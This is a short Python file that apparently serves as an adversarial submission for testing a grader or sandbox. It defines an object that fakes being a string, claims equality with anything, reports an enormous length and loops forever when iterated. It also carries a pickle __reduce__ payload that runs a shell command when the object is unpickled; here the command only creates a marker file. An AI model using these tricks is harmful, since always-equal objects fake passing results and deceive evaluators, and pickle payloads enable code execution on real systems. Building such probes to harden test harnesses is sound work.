"""Answer with an object that says it is equal to all, is a string, and has itself unpickled to a command."""

import os


class Liar:
    __class__ = str

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0

    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-was-here",)

    def __iter__(self):
        while True:
            yield self

    def __len__(self):
        return 2**62


def attack():
    return Liar()
